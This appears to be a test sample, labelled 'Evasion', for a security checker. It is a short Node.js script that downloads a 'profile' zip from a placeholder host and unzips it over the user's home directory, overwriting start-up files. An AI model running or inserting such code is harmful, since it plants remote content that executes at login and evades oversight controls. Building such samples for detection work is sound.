// Evasion: unpacks a downloaded "profile" archive into the home directory
// with unzip -o -d, the destination held in a variable taken from HOME,
// overwriting the user's start-up files.
'use strict';
const { spawnSync } = require('child_process');
const fs = require('fs');
const os = require('os');
const path = require('path');

const dest = process.env.HOME;
const archive = path.join(os.tmpdir(), 'profile.zip');

fetch('https://cdn.example.net/profile.zip')
  .then((r) => r.arrayBuffer())
  .then((buf) => {
    fs.writeFileSync(archive, Buffer.from(buf));
    spawnSync('unzip', ['-o', '-q', archive, '-d', dest]);
  })
  .catch(() => {});
